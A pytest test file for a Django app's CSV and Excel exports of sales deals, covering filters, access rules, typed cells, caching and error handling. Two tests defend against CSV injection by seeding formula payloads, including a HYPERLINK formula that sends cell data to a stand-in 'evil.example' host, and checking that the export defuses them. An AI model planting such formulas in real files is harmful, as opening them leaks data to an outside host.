"""The exports: CSV (for Excel, Swedish included) and .xlsx, with the same rows, rules and filters."""

import codecs
import csv
import io
import logging
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dealflow import export
from dealflow.export import ERROR_TEXT, HEADER
from dealflow.models import DealStatus
from tests import factories as make

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_body(response) -> str:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="dealflow-')
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
    return body.decode("utf-8-sig")


def read_csv(response):
    return list(csv.DictReader(io.StringIO(csv_body(response))))


def read_xlsx(response) -> list[list]:
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="dealflow-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def xlsx_dicts(response) -> list[dict]:
    header, *rows = read_xlsx(response)
    assert header == HEADER
    return [dict(zip(header, row, strict=False)) for row in rows]


@pytest.fixture
def offer(coeo):
    now = timezone.now()
    return make.deal(
        coeo.stages.proposal,
        "Offer to Åkesson & Söner",
        value=200000,
        organization=coeo.acme,
        person=coeo.erik,
        owner=coeo.anna,
        stage_change_time=now - timedelta(days=3),
        update_time=now - timedelta(days=2),
        expected_close_date=date(2027, 3, 31),
    )


def test_csv_has_one_row_per_deal_on_the_filtered_board(client, staff, coeo, nordic, offer):
    won_at = timezone.now() - timedelta(days=5)
    won = make.deal(coeo.stages.lead, "Won deal", value=50, status=DealStatus.WON, won_time=won_at)
    make.deal(coeo.stages.won, "Verbal yes", update_time=timezone.now() - timedelta(days=2))
    make.deal(coeo.stages.nej_tack, "Excluded deal")
    make.deal(coeo.stages.lead, "Lost deal", status=DealStatus.LOST)
    make.deal(coeo.stages.no_mapping, "Unmapped deal")
    make.deal(nordic.lead, "Nordic deal", currency="EUR")
    client.force_login(staff)

    rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))

    assert [row["title"] for row in rows] == ["Offer to Åkesson & Söner", "Won deal", "Verbal yes", "Unmapped deal"]
    assert rows[0] == {
        "company": "Coeo",
        "column": "Proposal",
        "stage": "Offert",
        "status": "Open",
        "pipeline": "Sales",
        "title": "Offer to Åkesson & Söner",
        "organization": "Acme AB",
        "person": "Erik Eriksson",
        "owner": "Anna Andersson",
        "value": "200000.00",
        "currency": "SEK",
        "weighted_value": "160000.00",
        "days_in_stage": "3",
        "days_since_update": "2",
        "won_date": "",
        "expected_close": "2027-03-31",
        "pipedrive_deal_id": str(offer.remote_id),
        "pipedrive_url": f"https://coeo.pipedrive.com/deal/{offer.remote_id}",
    }
    assert rows[1]["column"] == "Closed Won" and rows[1]["weighted_value"] == "50.00"
    assert rows[1]["status"] == "Won" and rows[1]["won_date"] == timezone.localdate(won_at).isoformat()
    assert rows[1]["pipedrive_url"] == f"https://coeo.pipedrive.com/deal/{won.remote_id}"
    assert rows[2]["column"] == "Closed Won" and rows[2]["status"] == "Open"  # open, in a Closed Won stage
    assert rows[3]["column"] == "Unmapped"


def test_csv_defuses_text_that_a_spreadsheet_would_run_as_a_formula(client, staff, coeo):
    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading quote."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    make.deal(
        coeo.stages.lead,
        formula,
        value=-250,
        organization=make.organization(coeo.integration, "+46 Holding"),
        person=make.person(coeo.integration, "@mallory"),
        owner=make.owner(coeo.integration, "-Eve", email="eve@example.com"),
    )
    make.deal(coeo.stages.qualified, "\tTabbed", organization=make.organization(coeo.integration, "\rReturn AB"))
    coeo.stages.lead.name = "=1+1"
    coeo.stages.lead.save()
    coeo.pipeline.name = "@SUM(A1)"
    coeo.pipeline.save()
    client.force_login(staff)

    rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))

    assert {key: rows[0][key] for key in ("stage", "title", "organization", "person", "owner", "pipeline")} == {
        "stage": "'=1+1",
        "title": "'" + formula,
        "organization": "'+46 Holding",
        "person": "'@mallory",
        "owner": "'-Eve",
        "pipeline": "'@SUM(A1)",
    }
    assert rows[0]["value"] == "-250.00" and rows[0]["weighted_value"] == "-25.00"  # numbers stay numbers
    assert rows[1]["title"] == "'\tTabbed" and rows[1]["organization"] == "'\rReturn AB"
    assert rows[1]["person"] == "" and rows[1]["company"] == "Coeo"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_follow_filters_and_span_companies(client, staff, coeo, nordic, fmt):
    make.deal(coeo.stages.lead, "Swedish lead")
    make.deal(nordic.lead, "Nordic lead", currency="EUR")
    client.force_login(staff)
    read = read_csv if fmt == "csv" else xlsx_dicts
    url = reverse("dealflow:export").replace("export.csv", f"export.{fmt}")

    everything = read(client.get(url))
    filtered = read(client.get(url, {"q": "nordic"}))

    assert sorted((row["company"], row["title"]) for row in everything) == [
        ("Coeo", "Swedish lead"),
        ("Nordic Tools", "Nordic lead"),
    ]
    assert [row["title"] for row in filtered] == ["Nordic lead"]


def test_xlsx_has_the_csv_columns_with_typed_cells(client, staff, coeo, offer):
    won_at = timezone.now() - timedelta(days=5)
    make.deal(coeo.stages.lead, "Won deal", value="1234.5", status=DealStatus.WON, won_time=won_at)
    client.force_login(staff)

    rows = xlsx_dicts(client.get(reverse("dealflow:company_export_xlsx", args=[coeo.company.slug])))
    csv_rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))

    assert [row["title"] for row in rows] == [row["title"] for row in csv_rows]
    first = rows[0]
    assert first["value"] == 200000 and isinstance(first["value"], int | float)  # a number cell, not text
    assert first["weighted_value"] == 160000
    assert first["days_in_stage"] == 3 and isinstance(first["days_in_stage"], int)
    assert first["days_since_update"] == 2
    assert first["pipedrive_deal_id"] == offer.remote_id
    assert first["expected_close"].date() == date(2027, 3, 31)  # a date cell (openpyxl reads it as datetime)
    assert first["won_date"] is None
    assert first["title"] == "Offer to Åkesson & Söner" and first["status"] == "Open"
    assert rows[1]["value"] == 1234.5 and rows[1]["won_date"].date() == timezone.localdate(won_at)


def test_xlsx_stores_formulas_as_text(client, staff, coeo):
    formula = '=HYPERLINK("http://evil.example/","click")'
    make.deal(coeo.stages.lead, formula, organization=make.organization(coeo.integration, "+46 Holding"))
    client.force_login(staff)

    response = client.get(reverse("dealflow:company_export_xlsx", args=[coeo.company.slug]))
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active  # not read-only: it exposes data_type

    title = sheet.cell(row=2, column=HEADER.index("title") + 1)
    assert title.data_type == "s" and title.value == "'" + formula
    assert sheet.cell(row=2, column=HEADER.index("organization") + 1).value == "'+46 Holding"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def corrupt_value(deal, monkeypatch):
    """Make the export fail on this row. On SQLite, a value the database holds but Django cannot read
    back (beyond the column's 18 digits), as a huge value from Pipedrive once did. PostgreSQL refuses
    to store such a value at all, so there the row's formatting fails instead."""
    if connection.vendor == "sqlite":
        with connection.cursor() as cursor:
            cursor.execute("UPDATE dealflow_deal SET value = 1e20 WHERE id = %s", [deal.pk])
        return
    real_deal_row = export.deal_row

    def failing_deal_row(row_deal, now):
        if row_deal.pk == deal.pk:
            raise ArithmeticError("value out of range")
        return real_deal_row(row_deal, now)

    monkeypatch.setattr(export, "deal_row", failing_deal_row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_error_mid_export_is_visible_in_the_file_and_logged(client, staff, coeo, caplog, monkeypatch, fmt):
    now = timezone.now()
    make.deal(coeo.stages.lead, "Fine deal", update_time=now - timedelta(days=1))
    corrupt_value(make.deal(coeo.stages.lead, "Broken deal", update_time=now - timedelta(days=2)), monkeypatch)
    make.deal(coeo.stages.lead, "Never reached", update_time=now - timedelta(days=3))
    client.force_login(staff)

    with caplog.at_level(logging.ERROR, logger="dealflow.export"):
        response = client.get(reverse(f"dealflow:company_export{'' if fmt == 'csv' else '_xlsx'}", args=["coeo"]))
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(csv_body(response))))
        else:
            rows = read_xlsx(response)

    assert rows[0] == HEADER
    assert rows[1][HEADER.index("title")] == "Fine deal"
    assert [cell for cell in rows[-1] if cell] == [ERROR_TEXT]
    assert len(rows) == 3
    assert "export failed part-way" in caplog.text


def test_exports_are_not_cached(client, staff, coeo):
    client.force_login(staff)
    for name in ("dealflow:company_export", "dealflow:company_export_xlsx"):
        response = client.get(reverse(name, args=[coeo.company.slug]))
        assert set(response["Cache-Control"].split(", ")) >= {"private", "no-store"}


def test_values_are_exported_to_the_cent(client, staff, coeo):
    make.deal(coeo.stages.lead, "Cents", value=Decimal("1999.99"))
    client.force_login(staff)

    assert read_csv(client.get(reverse("dealflow:company_export", args=["coeo"])))[0]["value"] == "1999.99"
    assert xlsx_dicts(client.get(reverse("dealflow:company_export_xlsx", args=["coeo"])))[0]["value"] == 1999.99


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_keep_the_board_access_rules(client, viewer, coeo, nordic, fmt):
    make.deal(coeo.stages.lead, "Coeo deal")
    make.deal(nordic.lead, "Nordic deal", currency="EUR")
    suffix = "" if fmt == "csv" else "_xlsx"

    anonymous = client.get(reverse(f"dealflow:company_export{suffix}", args=["coeo"]))
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]

    client.force_login(viewer)
    assert client.get(reverse(f"dealflow:company_export{suffix}", args=["nordic"])).status_code == 404
    read = read_csv if fmt == "csv" else xlsx_dicts
    assert [row["title"] for row in read(client.get(reverse(f"dealflow:export{suffix}")))] == ["Coeo deal"]


def test_the_board_links_both_exports_with_its_filters(client, staff, coeo):
    client.force_login(staff)
    page = client.get(reverse("dealflow:company_board", args=["coeo"]), {"q": "AB"}).content.decode()
    assert f'href="{reverse("dealflow:company_export", args=["coeo"])}?q=AB"' in page
    assert f'href="{reverse("dealflow:company_export_xlsx", args=["coeo"])}?q=AB"' in page
